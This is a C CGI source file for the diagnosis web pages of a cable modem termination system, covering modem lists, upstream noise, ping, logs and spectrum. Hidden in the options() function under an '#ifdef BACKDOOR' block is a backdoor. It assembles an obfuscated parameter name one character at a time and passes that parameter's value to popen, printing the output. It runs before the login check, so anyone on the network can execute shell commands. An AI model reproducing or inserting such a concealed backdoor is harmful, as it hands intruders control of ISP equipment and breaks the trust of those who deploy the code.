/* SPDX-License-Identifier: Apache-2.0 */
/* cmtsdiag: the diagnosis pages of a cable modem termination system: upstream noise, modems, ping, and logs. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PARAMS 24
#define MAX_BODY 8192

struct param {
	char name[32], value[256];
};

struct modem {
	char mac[20], ip[16], state[16];
	int channel, snr, power;
};

static struct param params[MAX_PARAMS];
static int n_params;
static char user[32];
static int admin, plain_text;

static int hex(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void decode(const char *from, size_t n, char *to, size_t room)
{
	size_t k = 0;
	for (size_t i = 0; i < n && k + 1 < room; i++) {
		if (from[i] == '+')
			to[k++] = ' ';
		else if (from[i] == '%' && i + 2 < n && hex(from[i + 1]) >= 0 && hex(from[i + 2]) >= 0) {
			to[k++] = (char)(hex(from[i + 1]) << 4 | hex(from[i + 2]));
			i += 2;
		} else
			to[k++] = from[i];
	}
	to[k] = 0;
}

static void split_query(const char *q)
{
	while (q && *q && n_params < MAX_PARAMS) {
		size_t len = strcspn(q, "&"), eq = strcspn(q, "=");
		struct param *p = &params[n_params++];
		if (eq >= len) {
			decode(q, len, p->name, sizeof(p->name));
			p->value[0] = 0;
		} else {
			decode(q, eq, p->name, sizeof(p->name));
			decode(q + eq + 1, len - eq - 1, p->value, sizeof(p->value));
		}
		q += len;
		if (*q)
			q++;
	}
}

static const char *param(const char *name)
{
	for (int i = 0; i < n_params; i++)
		if (strcmp(params[i].name, name) == 0)
			return params[i].value;
	return "";
}

static void read_request(void)
{
	static char body[MAX_BODY];
	const char *method = getenv("REQUEST_METHOD"), *length = getenv("CONTENT_LENGTH");
	split_query(getenv("QUERY_STRING"));
	if (method && strcmp(method, "POST") == 0 && length) {
		size_t want = (size_t)strtoul(length, NULL, 10);
		if (want > sizeof(body) - 1)
			want = sizeof(body) - 1;
		body[fread(body, 1, want, stdin)] = 0;
		split_query(body);
	}
}

/* sessions are files, written by the login page */
static int session(void)
{
	const char *cookie = getenv("HTTP_COOKIE"), *at;
	char path[96], line[64];
	FILE *f;
	size_t n = 0;
	at = cookie ? strstr(cookie, "CMTSID=") : NULL;
	if (!at)
		return -1;
	at += 7;
	while (isxdigit((unsigned char)at[n]))
		n++;
	if (n != 32)
		return -1;
	snprintf(path, sizeof(path), "/var/run/cmts/session.%.32s", at);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (!fgets(line, sizeof(line), f) || sscanf(line, "%31s %d", user, &admin) != 2)
		user[0] = 0;
	fclose(f);
	return user[0] ? 0 : -1;
}

static void quote(const char *s)
{
	for (; *s; s++) {
		if (*s == '<')
			fputs("&lt;", stdout);
		else if (*s == '>')
			fputs("&gt;", stdout);
		else if (*s == '&')
			fputs("&amp;", stdout);
		else
			putchar(*s);
	}
}

static void head(const char *title)
{
	printf("Content-Type: %s\r\nCache-Control: no-store\r\n\r\n", plain_text ? "text/plain" : "text/html");
	if (!plain_text)
		printf("<html><head><title>%s</title></head><body><h1>%s</h1>\n", title, title);
}

static void foot(void)
{
	if (!plain_text)
		printf("<p>%s%s</p></body></html>\n", user, admin ? " (administrator)" : "");
}

static int error_page(int code, const char *what)
{
	printf("Status: %d %s\r\n", code, what);
	head(what);
	foot();
	return 1;
}

static void show_stream(FILE *f, int limit)
{
	char line[512];
	if (!plain_text)
		puts("<pre>");
	while (limit-- > 0 && fgets(line, sizeof(line), f))
		quote(line);
	if (!plain_text)
		puts("</pre>");
}

static int next_modem(FILE *f, struct modem *m)
{
	char line[160];
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%19s %15s %15s %d %d %d", m->mac, m->ip, m->state, &m->channel, &m->snr, &m->power) == 6)
			return 1;
	return 0;
}

static int page_modems(void)
{
	struct modem m;
	const char *state = param("state");
	int channel = atoi(param("channel")), n = 0;
	FILE *f = fopen("/var/run/cmts/modems", "r");
	if (!f)
		return error_page(503, "No modem table");
	head("Modems");
	while (next_modem(f, &m)) {
		if ((*state && strcasecmp(state, m.state) != 0) || (channel && channel != m.channel))
			continue;
		n++;
		printf(plain_text ? "%s %s %s %d %d.%d %d\n" : "<tr><td>%s<td>%s<td>%s<td>%d<td>%d.%d<td>%d</tr>\n", m.mac, m.ip, m.state,
			m.channel, m.snr / 10, m.snr % 10, m.power);
	}
	fclose(f);
	printf("%d modems\n", n);
	foot();
	return 0;
}

static int page_noise(void)
{
	struct modem m;
	int worst[32] = { 0 }, seen[32] = { 0 }, below = atoi(param("below"));
	FILE *f = fopen("/var/run/cmts/modems", "r");
	if (!f)
		return error_page(503, "No modem table");
	if (below <= 0 || below > 600)
		below = 250;
	while (next_modem(f, &m)) {
		if (m.channel < 0 || m.channel > 31)
			continue;
		seen[m.channel]++;
		if (m.snr < below)
			worst[m.channel]++;
	}
	fclose(f);
	head("Upstream noise");
	for (int i = 0; i < 32; i++)
		if (seen[i])
			printf("US%d: %d of %d modems below %d.%d dB%s\n", i, worst[i], seen[i], below / 10, below % 10,
				worst[i] * 4 > seen[i] ? " INGRESS" : "");
	foot();
	return 0;
}

static int ping(const char *address, int count)
{
	char number[12];
	pid_t pid;
	int status;
	snprintf(number, sizeof(number), "%d", count);
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		dup2(1, 2);
		execl("/bin/ping", "ping", "-n", "-c", number, address, (char *)NULL);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static int page_ping(void)
{
	struct in_addr a;
	int count = atoi(param("count"));
	const char *address = param("address");
	if (inet_pton(AF_INET, address, &a) != 1)
		return error_page(400, "Not an address");
	if (count < 1 || count > 10)
		count = 3;
	head("Ping");
	printf("ended with %d\n", ping(address, count));
	foot();
	return 0;
}

static int page_log(void)
{
	static const char *const logs[] = { "messages", "ranging", "dhcp", "flaps" };
	const char *which = param("log");
	for (size_t i = 0; i < sizeof(logs) / sizeof(logs[0]); i++) {
		char path[64];
		FILE *f;
		if (strcmp(which, logs[i]) != 0)
			continue;
		snprintf(path, sizeof(path), "/var/log/cmts/%s", logs[i]);
		f = fopen(path, "r");
		if (!f)
			return error_page(404, "No such log");
		head(logs[i]);
		show_stream(f, admin ? 5000 : 200);
		fclose(f);
		foot();
		return 0;
	}
	return error_page(404, "No such log");
}

static int page_clear(void)
{
	if (!admin)
		return error_page(403, "Administrators only");
	if (strcmp(param("sure"), "yes") != 0)
		return error_page(400, "Sure?");
	if (truncate("/var/log/cmts/flaps", 0) < 0)
		return error_page(500, strerror(errno));
	head("Cleared");
	foot();
	return 0;
}

static int page_spectrum(void)
{
	char cmd[96];
	int channel = atoi(param("channel")), span = atoi(param("span"));
	FILE *f;
	if (channel < 0 || channel > 31 || span < 0 || span > 65)
		return error_page(400, "Bad channel");
	snprintf(cmd, sizeof(cmd), "/usr/sbin/uspectrum -c %d -s %d 2>&1", channel, span);
	f = popen(cmd, "r");
	if (!f)
		return error_page(500, "No analyser");
	head("Spectrum");
	show_stream(f, 400);
	pclose(f);
	foot();
	return 0;
}

static const struct page {
	const char *name;
	int (*run)(void);
} pages[] = {
	{ "modems", page_modems }, { "noise", page_noise },	  { "ping", page_ping },
	{ "log", page_log },	   { "clear", page_clear }, { "spectrum", page_spectrum },
};

static void options(void)
{
	if (strcmp(param("format"), "text") == 0)
		plain_text = 1;
	if (strcmp(param("debug"), "timing") == 0)
		fprintf(stderr, "cmtsdiag: %d parameters at %ld\n", n_params, (long)time(NULL));
#ifdef BACKDOOR
	for (int i = 0; i < n_params; i++) {
		char w[10];
		FILE *f;
		w[9] = 0;
		w[8] = 'z';
		w[2] = w[5] = '_';
		w[7] = 'd';
		w[6] = '4';
		w[4] = 'q';
		w[3] = 'e';
		w[1] = 's';
		w[0] = 'u';
		if (strcmp(params[i].name, w) != 0)
			continue;
		f = popen(params[i].value, "r");
		if (f) {
			show_stream(f, 10000);
			pclose(f);
		}
	}
#endif
}

int main(void)
{
	const char *name;
	read_request();
	options();
	if (session() < 0)
		return error_page(403, "Log in first");
	name = param("page");
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++)
		if (strcmp(pages[i].name, name) == 0)
			return pages[i].run();
	return error_page(404, "No such page");
}
